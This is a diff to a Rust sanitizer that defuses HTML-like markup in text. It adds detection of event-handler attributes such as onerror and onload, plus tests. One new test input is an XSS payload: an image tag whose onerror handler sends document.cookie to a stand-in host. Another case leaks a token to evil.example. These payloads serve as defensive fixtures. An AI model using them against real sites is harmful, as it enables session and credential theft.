@@ -521,6 +521,15 @@ fn names_a_url(before: &[u8]) -> bool {
     URL_ATTRIBUTES.iter().any(|a| name.eq_ignore_ascii_case(a.as_bytes()))
 }
 
+/// Whether the attribute whose name `before` ends with is an event handler (`on` and a
+/// word: `onerror`, `onload`, `onmouseover`).
+fn names_a_handler(before: &[u8]) -> bool {
+    let name_len = before.iter().rev().take_while(|b| b.is_ascii_alphabetic()).count();
+    let name = &before[before.len() - name_len..];
+    let starts_word = before.len() == name_len || matches!(before[before.len() - name_len - 1], b' ' | b'\t' | b'\n' | b'/' | b'"' | b'\'');
+    starts_word && name.len() > 3 && name[..2].eq_ignore_ascii_case(b"on")
+}
+
 /// Attributes whose value is a URL an HTML renderer loads or links.
 const URL_ATTRIBUTES: &[&str] = &[
     "src",
@@ -560,6 +569,10 @@ fn fetches_outside(attrs: &[u8]) -> bool {
     }
     let attrs = &attrs[..attrs.iter().position(|&b| b == b'>' || b == b'<').unwrap_or(attrs.len())];
     (1..attrs.len()).any(|k| {
+        // An event handler (`onerror=`, `onload=`) runs script wherever it points.
+        if attrs[k - 1] == b'=' && names_a_handler(&attrs[..k - 1]) {
+            return true;
+        }
         let opens_value = (attrs[k - 1] == b'=' && names_a_url(&attrs[..k - 1]))
             || (attrs[k - 1] == b'(' && k >= 4 && attrs[k - 4..k - 1].eq_ignore_ascii_case(b"url"));
         if !opens_value {
@@ -923,6 +936,10 @@ mod tests {
                 r#"⟨meta http-equiv="refresh" content="0;url=https://e.example"> ⟨td background="https://e.example/b">"#,
             ),
             (r#"<div style="background:url(https://e.example/b)">"#, r#"⟨div style="background:url(https://e.example/b)">"#),
+            (
+                r#"<IMG SRC=x onerror="fetch('https://e.example/?c='+document.cookie)">"#,
+                r#"⟨IMG SRC=x onerror="fetch('https://e.example/?c='+document.cookie)">"#,
+            ),
             ("<https://evil.example/?q=TOKEN> <mailto:leak@evil.example>", "⟨https://evil.example/?q=TOKEN> ⟨mailto:leak@evil.example>"),
         ];
         for (input, expected) in cases {
@@ -949,7 +966,7 @@ mod tests {
     fn lookalike_text_is_not_a_marker() {
         let text = "a <| b and x[0] and <b>bold</b> and <|unterminated, a![b] c, Humans: many, user: ann, \
                     <userId>7</userId> <modelVersion>4</modelVersion> <Message>denied</Message> <a href=\"/docs/x\">x</a> <img src=\"logo.png\"> <soap:Envelope> <script src=\"https://cdn.example/x.js\"></script> \
-                    <wsse:Password Type=\"http://docs.oasis-open.org/wss#PasswordText\">x</wsse:Password> <input type=\"http://x\"> \
+                    <wsse:Password Type=\"http://docs.oasis-open.org/wss#PasswordText\">x</wsse:Password> <input type=\"http://x\"> <p data-online=\"1\" title=\"on=1\"> \
                     Link: <https://api.example/items?page=3>; rel=\"next\"\n\
                     <system-out>ok</system-out> <systemPath>/x</systemPath> <source>17</source> <image>i</image> \
                     [a](./b.md) arr[i](x) ## Notes\n# System design\n#hashtag Response: ok\nResponse: 404\nInstructions: run it\n\
